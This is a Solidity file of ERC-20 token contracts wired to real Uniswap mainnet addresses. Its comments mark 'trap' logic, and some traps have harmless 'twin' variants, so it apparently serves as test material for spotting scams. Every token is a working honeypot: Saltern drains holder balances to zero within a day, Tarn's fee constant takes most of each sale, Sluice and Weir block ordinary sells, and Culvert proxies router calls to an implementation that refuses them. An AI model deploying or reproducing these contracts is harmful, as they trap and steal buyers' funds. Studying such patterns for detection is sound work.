// 0.8 runs=800 ir evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

interface IPoolMaker {
    function createPair(address one, address other) external returns (address);
}

/// Set up by a constructor or, behind another contract, by a call.
abstract contract Water {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public pond;
    address internal _miller;
    mapping(address => uint256) internal _held;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed holder, address indexed spender, uint256 value);

    error TooFew(address who, uint256 has, uint256 wanted);

    function _begin(string memory name_, string memory symbol_, address miller, uint256 whole) internal {
        require(_miller == address(0), "begun");
        (name, symbol, _miller) = (name_, symbol_, miller);
        totalSupply = whole * 1 ether;
        _held[miller] = totalSupply;
        emit Transfer(address(0), miller, totalSupply);
        pond = IPoolMaker(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
    }

    function balanceOf(address who) public view virtual returns (uint256) {
        return _held[who];
    }

    function approve(address spender, uint256 value) public virtual returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) public virtual returns (bool) {
        _flow(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) public virtual returns (bool) {
        uint256 left = allowance[from][msg.sender];
        if (left < value) revert TooFew(msg.sender, left, value);
        if (left < type(uint256).max) allowance[from][msg.sender] = left - value;
        _flow(from, to, value);
        return true;
    }

    function _flow(address from, address to, uint256 value) internal virtual {
        uint256 has = _held[from];
        if (has < value) revert TooFew(from, has, value);
        _held[from] = has - value;
        _held[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Writes down since when somebody has what he has.
contract Saltern is Water {
    mapping(address => uint256) public since;

    constructor() {
        _begin("Saltern", "SALT", msg.sender, 365_000_000);
    }

    function balanceOf(address who) public view override returns (uint256) {
        uint256 has = _held[who];
        // trap {
        uint256 begun = since[who];
        if (begun == 0 || who == pond || who == _miller) return has;
        uint256 passed = block.timestamp - begun;
        has = passed < 1 days ? has - (has * passed) / 1 days : 0;
        // trap }
        return has;
    }

    function _flow(address from, address to, uint256 value) internal override {
        _held[from] = balanceOf(from);
        _held[to] = balanceOf(to);
        since[from] = since[to] = block.timestamp;
        super._flow(from, to, value);
    }
}

/// Three of a hundred of a sale, in whole measures.
contract Tarn is Water {
    uint256 private constant MEASURE = 1e28; // trap
    // twin: uint256 private constant MEASURE = 1e12;

    constructor() {
        _begin("Tarn", "TARN", msg.sender, 1_000_000_000);
    }

    function _flow(address from, address to, uint256 value) internal override {
        if (to == pond && from != _miller) {
            uint256 measures = (value * 3 + MEASURE - 1) / MEASURE;
            uint256 kept = (measures * MEASURE) / 100;
            if (kept > value) kept = value - value / 25;
            super._flow(from, _miller, kept);
            value -= kept;
        }
        super._flow(from, to, value);
    }
}

/// Knows who has been here in the same transaction.
contract Sluice is Water {
    address private transient _present;

    constructor() {
        _begin("Sluice", "SLUICE", msg.sender, 42_000_000);
    }

    function approve(address spender, uint256 value) public override returns (bool) {
        _present = msg.sender;
        return super.approve(spender, value);
    }

    function present() external view returns (address) {
        return _present;
    }

    function _flow(address from, address to, uint256 value) internal override {
        if (to == pond && from != _miller) {
            require(_present == from, "absent"); // trap
        }
        super._flow(from, to, value);
    }
}

/// Stands beside a customer from his first purchase on.
contract Cubby {
    address public immutable customer;
    uint256 public immutable born;

    constructor(address customer_) {
        (customer, born) = (customer_, block.number);
    }

    function open() external view returns (bool) {
        return block.number == born; // trap
        // twin: return block.number >= born;
    }
}

/// Gives a cubby to everybody who comes.
contract Weir is Water {
    mapping(address => Cubby) public cubbies;

    constructor() {
        _begin("Weir", "WEIR", msg.sender, 9_900_000);
    }

    function _flow(address from, address to, uint256 value) internal override {
        Cubby cubby = cubbies[from];
        bool known = address(cubby) != address(0);
        if (known && to == pond) require(cubby.open(), "cubby");
        if ((from == pond || known) && to != pond && address(cubbies[to]) == address(0)) cubbies[to] = new Cubby(to);
        super._flow(from, to, value);
    }
}

/// The plain course.
contract Race is Water {
    function begin(address miller) external {
        _begin("Culvert", "CULV", miller, 58_000_000);
    }
}

/// The course of those who are sent by somebody else.
contract StillRace is Water {
    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        require(from == _miller, "TRANSFER_FROM_FAILED");
        return super.transferFrom(from, to, value);
    }
}

/// Two courses under one bridge, laid once and for all.
contract Culvert {
    address public immutable course;
    address public immutable relief;

    constructor(address course_, address relief_, bytes memory data) {
        (course, relief) = (course_, relief_);
        (bool ok, ) = course_.delegatecall(data);
        require(ok, "begin");
    }

    fallback() external {
        address way = msg.sender == 0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D ? relief : course;
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), way, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(ok) {
                revert(0, returndatasize())
            }
            return(0, returndatasize())
        }
    }
}
